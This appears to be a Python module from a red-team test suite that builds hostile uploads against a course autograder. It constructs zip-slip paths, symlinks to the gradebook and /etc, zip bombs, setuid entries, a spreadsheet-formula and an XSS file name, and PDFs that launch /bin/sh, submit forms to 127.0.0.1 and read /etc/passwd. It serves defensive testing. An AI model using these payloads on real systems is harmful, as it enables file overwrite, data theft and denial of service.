"""Attacks that lie in the upload itself: zips, names and PDFs that no honest tool makes."""

from __future__ import annotations

import functools
import io
import stat
import struct
import zipfile
from collections.abc import Iterator

from redteam.attack import Attack

FILE = stat.S_IFREG | 0o644
LINK = stat.S_IFLNK | 0o777
MIB = 1024 * 1024
OLDER = "0a0a0a0a"  # a version that the course under attack gave out once


def attacks() -> Iterator[Attack]:
    """Every attack of this kind."""
    yield Attack(
        "zip slip", "uploads", "Paths that climb out of the zip, in each way of writing them.",
        "Writes to the gradebook, the journal, the exercise or a person's home.",
        entries=tuple((name, b"import os; os._exit(0)", FILE) for name in (
            "../../../gradebook.db", "toy/../../../../../secret.txt", "..\\..\\..\\grades.csv",
            "/tmp/slipped.txt", "toy/../../s001/toy/toy.ipynb", "C:\\slipped.txt", "//slipped",
            "toy/./../../../journal/toy.jsonl", "toy/sub/../../../s001/toy/vectors.py")))
    yield Attack(
        "symlinks in the zip", "uploads", "Links to the gradebook and to another submission, and "
        "files that go through a link.", "Reads or overwrites what the links point to.",
        entries=(("toy/link", b"../../../gradebook.db", LINK),
                 ("toy/other", b"../../s001/toy", LINK), ("toy/other/toy.ipynb", b"{}", FILE),
                 ("toy/secret", b"../../../../../secret.txt", LINK), ("toy/etc", b"/etc", LINK),
                 ("toy/etc/x", b"x", FILE)))
    yield Attack(
        "devices in the zip", "uploads", "Entries with the modes of devices, FIFOs and setuid.",
        "A device or a root shell in the course's folder.",
        entries=(("toy/sda", b"", stat.S_IFBLK | 0o666), ("toy/null", b"", stat.S_IFCHR | 0o666),
                 ("toy/pipe", b"", stat.S_IFIFO | 0o666), ("toy/sock", b"", stat.S_IFSOCK | 0o666),
                 ("toy/root.sh", b"#!/bin/sh\nid\n", stat.S_IFREG | 0o6777)))
    yield Attack(
        "a zip bomb", "uploads", "One entry of 300 MB zeros, another that is packed twice.",
        "The memory or the disk of whoever unpacks it.",
        entries=(("toy/zeros.txt", bytes(300 * MIB), FILE),), proof="larger than 60 MB")
    yield Attack(
        "a zip bomb of entries that overlap", "uploads", "A thousand entries that share the same "
        "packed megabytes.", "Gigabytes out of a small file.", raw=_overlapping(1000, 4 * MIB),
        proof="zip|none of")
    yield Attack(
        "a zip of three thousand files", "uploads", "More files than any homework has.",
        "Inodes, and the time to walk through them.", proof="2,000 are allowed",
        entries=tuple((f"toy/f{number}", b"", FILE) for number in range(3000)))
    yield Attack(
        "zips of zips of many files", "uploads", "Hundreds of zips in the zip, a thousand "
        "files in each, and zips in those.", "The time and the memory of whoever opens them all.",
        proof="2,000 are allowed", entries=tuple(
            (f"toy/z{number}.zip", _many(1000 if number else 10, number == 0), FILE)
            for number in range(300)))
    yield Attack(
        "a bomb in the zip in the zip", "uploads", "300 MB of zeros, two zips deep.",
        "The memory of whoever opens it.", entries=(
            ("toy/a.zip", _zip({"b.zip": _zip({"zeros.txt": bytes(300 * MIB)})}), FILE),),
        may_fail=True)
    yield Attack(
        "names that differ in case", "uploads", "TOY.ipynb and Vectors.py beside the real ones.",
        "Another file is judged than the one that is read.",
        entries=(("toy/TOY.ipynb", b"{}", FILE), ("toy/Vectors.py", b"exit()", FILE),
                 ("TOY/vectors.py", b"raise SystemExit", FILE), ("Toy/toy.ipynb", b"{}", FILE)))
    yield Attack(
        "names that are not UTF-8", "uploads", "Bytes that no encoding knows, bidirectional and "
        "control characters in names.", "An error where a name is written down.",
        raw=_odd_names())
    yield Attack(
        "two entries of one name", "uploads", "vectors.py twice: a harmless one and another.",
        "The person reads one, the judge runs the other.",
        entries=(("toy/vectors.py", b"def scale(vector): return vector\n", FILE),
                 ("toy/toy.ipynb", b"{}", FILE)), may_fail=True)
    yield Attack(
        "a path of a thousand folders", "uploads", "A file so deep that no path can name it.",
        "An error while it is copied, or while it is cleared away.",
        entries=(("toy/" + "d/" * 1500 + "x", b"x", FILE), ("toy/" + "e/" * 400 + "x", b"x", FILE)),
        may_fail=True)
    yield Attack(
        "another submission's place", "uploads", "The name of the upload holds another's id, too.",
        "Replaces, or is taken for, somebody else's work.", archive="s001_of_{id}_toy.zip.zip",
        may_fail=True)
    yield Attack(
        "a formula for a name", "uploads", "The upload is called like a formula of a spreadsheet.",
        "A command that the TA's spreadsheet runs.",
        archive="=HYPERLINK(\"http:⁄⁄127.0.0.1\",\"{id}\")_toy.zip")
    yield Attack(
        "a script for a name", "uploads", "The upload is called like a script.",
        "The session of the TA.", archive="<img src=x onerror=HOOK>_{id}_toy.zip")
    yield Attack(
        "a PDF that acts", "uploads", "A written part that opens, launches and submits by itself.",
        "The TA's reader, or the process that draws the pages.", pdf=_acting_pdf())
    yield Attack(
        "a PDF that is too much to draw", "uploads", "Pages of a mile's length, streams that "
        "unpack to gigabytes, objects that contain themselves.", "The judge's time and memory.",
        pdf=_heavy_pdf())
    yield Attack(
        "a PDF that is a script", "uploads", "HTML that starts like a PDF.",
        "A browser that shows it as a page.",
        pdf=b"%PDF-1.7\n<html><script>document.title=1</script></html>")
    yield Attack(
        "a notebook of another kind", "uploads", "Metadata that names another kernel and locks the "
        "attacker's own cells as tests with points.", "Points for cells of its own, or a kernel "
        "without walls.",
        metadata='{"kernelspec": {"name": "python3", "display_name": "x", "language": "python"}, '
                 '"nbgrader": {"points": 100}, "celltoolbar": "Create Assignment"}')
    yield Attack(
        "an older version", "uploads", "Claims to be made from a version in which the first part "
        "gave 1000 points and nothing was checked.", "Points of another time.",
        metadata=f'{{"autograder": {{"assignment": "toy", "version": "{OLDER}"}}}}',
        proof=f"was made from version 2025.1 .{OLDER}.")
    yield Attack(
        "a version that never was", "uploads", "Names a path in the place of a version.",
        "The gradebook, read as a notebook, or an error.",
        metadata='{"autograder": {"assignment": "toy", "version": "../../gradebook.db"}}',
        proof="of which there is no record")


def _zip(files: dict[str, bytes]) -> bytes:
    """An honest zip of these files."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@functools.cache
def _many(count: int, nested: bool) -> bytes:
    """A zip of empty files, or of zips of them."""
    return _zip({f"{number}.zip" if nested else str(number): _many(100, False) if nested else b""
                 for number in range(count)})


def _overlapping(count: int, size: int) -> bytes:
    """A zip whose directory names the same packed data `count` times."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("toy/vectors.py", bytes(size))
    data = buffer.getvalue()
    start, length = struct.unpack("<II", data[-10:-2])[::-1]
    entry = data[start:start + length]
    named = [entry.replace(b"vectors.py", b"%010d" % number) for number in range(count)]
    directory = b"".join(named)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), start, 0)
    return data[:start] + directory + end


def _odd_names() -> bytes:
    """A zip with names that were never text."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in ("toy/AAAAA.py", "toy/BBBBB.py", "toy/\u202eyp.x", "toy/new\nline.py"):
            archive.writestr(name, b"1")
    data = buffer.getvalue().replace(b"AAAAA", b"\xff\xfe\x80\x00\xc3")
    return data.replace(b"BBBBB", b"\x1b[2J\x07")


def _pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, the first of which is its catalogue."""
    data = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return data + (b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\n"
                   b"startxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table, len(objects) + 1,
                                                  len(data)))


def _acting_pdf() -> bytes:
    return _pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) /Next << /S "
        b"/JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://127.0.0.1:46011/'\\);) >> >>"
        b" /AA << /WC << /S /URI /URI (http://127.0.0.1:46011/) >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /AA << /O << /S "
        b"/GoToR /F (../../../../etc/passwd) >> >> >>",
        b"<< /Length 30 /F (/etc/passwd) >>\nstream\n0 0 300 300 re f              \nendstream")


def _heavy_pdf() -> bytes:
    import zlib

    packed = zlib.compress(b"0 0 m 1 1 l S\n" * 4_000_000, 9)
    return _pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 3 0 R 2 0 R] /Count 2000000000 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1 9000000] /Resources << /XObject << /X 3 0 "
        b"R >> >> /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed))
